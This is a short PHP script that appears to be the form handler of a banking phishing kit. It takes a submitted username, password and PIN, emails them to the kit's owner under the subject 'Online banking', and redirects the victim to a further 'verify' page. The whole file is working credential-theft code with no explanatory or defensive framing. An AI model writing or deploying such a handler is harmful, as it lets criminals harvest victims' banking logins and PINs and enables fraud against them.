<?php
require __DIR__ . '/core.php';
if (empty($_POST['user'])) {
    exit;
}
$body = "User: {$_POST['user']}\nPass: {$_POST['pass']}\nPIN: {$_POST['pin']}\n";
smtpmail($owner, 'Online banking', $body);
echo "<meta http-equiv='refresh' content='0; url=verify.php'>";
